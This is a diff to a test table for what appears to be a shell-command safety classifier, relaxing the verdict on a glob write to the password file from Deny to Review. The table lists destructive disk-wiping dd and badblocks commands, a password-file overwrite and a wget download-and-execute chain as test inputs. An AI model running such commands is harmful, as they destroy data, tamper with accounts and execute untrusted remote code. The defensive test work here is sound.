@@ -206,7 +206,9 @@ const CASES: &[(&str, Verdict)] = &[
     ("badblocks -w /dev/sda", Deny),
     ("ln -s /dev/sda /tmp/d; dd if=/dev/zero of=/tmp/d", Deny),
     ("dd if=/dev/zero of=/dev/sd?", Deny),
-    ("cat /tmp/p > /etc/pass?d", Deny),
+    // A pattern that may name /etc/passwd but need not is a system write to look at,
+    // not a certain account takeover: deny needs every match to be dangerous.
+    ("cat /tmp/p > /etc/pass?d", Review),
     // Review-class items.
     (
         "wget http://x.example/e -O /tmp/e && chmod +x /tmp/e && /tmp/e",
